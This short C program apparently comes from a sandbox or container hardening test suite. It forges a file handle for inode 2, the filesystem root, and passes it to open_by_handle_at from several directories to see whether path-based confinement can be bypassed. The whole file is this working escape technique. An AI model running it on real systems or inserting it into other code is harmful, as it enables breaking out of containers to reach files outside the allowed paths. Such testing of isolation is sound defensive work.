// SPDX-License-Identifier: MIT
// Opens files by their numbers, past all paths: the root of the disk is number 2.
#include "attack.h"

int main(int count, char **arguments)
{
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ] = {0};
    struct file_handle *handle = (struct file_handle *)(void *)room;
    int id;
    (void)count;
    handle->handle_bytes = MAX_HANDLE_SZ;
    attempt("name_to_handle_at", name_to_handle_at(AT_FDCWD, arguments[0], handle, &id, 0));
    const char *const places[] = {"/", "/usr", arguments[0], "."};
    for (int k = 0; k < 4; k++) {
        int place = open(places[k], O_RDONLY);
        unsigned root[2] = {2, 0};
        handle->handle_bytes = 8;
        handle->handle_type = 1;
        memcpy(handle->f_handle, root, 8);
        attempt(places[k], open_by_handle_at(place, handle, O_RDONLY));
        handle->handle_bytes = 0;
        handle->handle_type = 0xff;
        attempt(places[k], open_by_handle_at(place, handle, O_RDONLY));
    }
    return end();
}
